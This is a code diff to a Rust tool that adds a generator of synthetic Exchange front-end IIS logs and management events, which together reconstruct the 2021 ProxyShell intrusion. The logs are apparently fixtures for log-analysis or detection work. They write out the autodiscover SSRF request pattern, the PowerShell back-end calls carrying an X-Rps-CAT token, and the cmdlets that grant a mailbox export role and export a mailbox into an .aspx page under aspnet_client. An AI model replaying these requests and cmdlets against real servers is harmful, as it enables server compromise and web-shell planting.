@@ -1015,6 +1015,113 @@ fn write_example(root: &Path, seed: u64, ex: &Example<'_>) -> io::Result<()> {
     Ok(())
 }
 
+/// The ProxyShell chain of August 2021, as the front-end IIS log and an export of the MSExchange
+/// Management events show it: the `autodiscover.json` SSRF leaks the mailbox's legacy DN and SID
+/// through MAPI, reaches the PowerShell back end with an `X-Rps-CAT` token, grants itself the
+/// Mailbox Import Export role and exports a mailbox into a page under `aspnet_client`.
+fn write_proxyshell_example(root: &Path) -> io::Result<()> {
+    let tree = Tree {
+        root: root.to_path_buf(),
+    };
+    if root.exists() {
+        fs::remove_dir_all(root)?;
+    }
+    let mut rng = Rng(0x5_4E11);
+    let srv = Server {
+        name: "EX02",
+        fqdn: "EX02.contoso.local",
+        ip: "10.1.0.20",
+        build: (15, 1, 2176, 9), // CU19 with Mar21SU: ProxyLogon fixed, ProxyShell not
+    };
+    let t0 = T::at(2021, 8, 13, 1, 2, 3);
+    let ssrf = |t: T, method: &'static str, backend: &str, status: u16| Req {
+        t,
+        protocol: "Autodiscover",
+        stem: "/autodiscover/autodiscover.json".into(),
+        query: format!(
+            "@evil.example/{backend}&Email=autodiscover/autodiscover.json%3F@evil.example"
+        ),
+        method,
+        auth: "",
+        user: String::new(),
+        anchor: String::new(),
+        ua: "python-requests/2.26.0".into(),
+        ip: "198.51.100.23".into(),
+        status,
+        routing_hint: String::new(),
+        backend_cookie: String::new(),
+        target: String::new(),
+    };
+    let token = "VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBdleGFkbWluQGNvbnRvc28ubG9jYWw";
+    let attack = vec![
+        ssrf(t0, "GET", "owa/?", 302),
+        ssrf(t0.plus(2), "POST", "mapi/nspi/?", 200),
+        ssrf(t0.plus(3), "POST", "mapi/emsmdb?", 200),
+        ssrf(
+            t0.plus(9),
+            "POST",
+            &format!("powershell/?X-Rps-CAT={token}"),
+            200,
+        ),
+        ssrf(
+            t0.plus(11),
+            "POST",
+            &format!("powershell/?X-Rps-CAT={token}"),
+            200,
+        ),
+        ssrf(
+            t0.plus(14),
+            "POST",
+            &format!("powershell/?X-Rps-CAT={token}"),
+            200,
+        ),
+    ];
+    let days: Vec<T> = [(2021, 7, 20), (2021, 8, 2), (2021, 8, 13), (2021, 8, 20)]
+        .iter()
+        .map(|&(y, m, d)| T::at(y, m, d, 0, 0, 0))
+        .collect();
+    for &day in &days {
+        let extra: Vec<Req> = if day.date() == t0.date() {
+            attack.clone()
+        } else {
+            Vec::new()
+        };
+        let logs = day_traffic(day, &srv, &mut rng, 40, &extra);
+        write_day(&tree, day, &logs)?;
+    }
+    write_web_roots(&tree, "15.1.2176.9")?;
+    // The management events, as a SIEM kept them (flattened JSON Lines, message text only).
+    let mgmt = |t: T, cmdlet: &str, params: &str| {
+        format!(
+            "{{\"EventTime\":\"{} {}\",\"Hostname\":\"{}\",\"Channel\":\"MSExchange Management\",\"EventID\":1,\"SourceName\":\"MSExchange CmdletLogs\",\"Message\":\"Cmdlet suceeded. Cmdlet {cmdlet}, parameters {params}.\"}}\n",
+            t.date(),
+            t.time(),
+            srv.fqdn
+        )
+    };
+    let mut events = String::new();
+    events.push_str(&mgmt(
+        T::at(2021, 8, 12, 16, 0, 0),
+        "Get-Mailbox",
+        "-ResultSize \\\"10\\\"",
+    ));
+    events.push_str(&mgmt(
+        t0.plus(10),
+        "New-ManagementRoleAssignment",
+        "-Role \\\"Mailbox Import Export\\\" -User \\\"exadmin@contoso.com\\\"",
+    ));
+    events.push_str(&mgmt(
+        t0.plus(15),
+        "New-MailboxExportRequest",
+        "-Mailbox \\\"exadmin@contoso.com\\\" -FilePath \\\"\\\\\\\\127.0.0.1\\\\c$\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\rlb.aspx\\\"",
+    ));
+    tree.write(
+        &tree.root.join("events").join("EX02-management.jsonl"),
+        &events,
+    )?;
+    Ok(())
+}
+
 fn examples(out: &Path) -> io::Result<()> {
     let mut days: Vec<T> = [
         (2020, 12, 29),
@@ -1093,6 +1200,7 @@ fn examples(out: &Path) -> io::Result<()> {
             web_roots: false,
         },
     )?;
+    write_proxyshell_example(&out.join("proxyshell"))?;
     Ok(())
 }
 
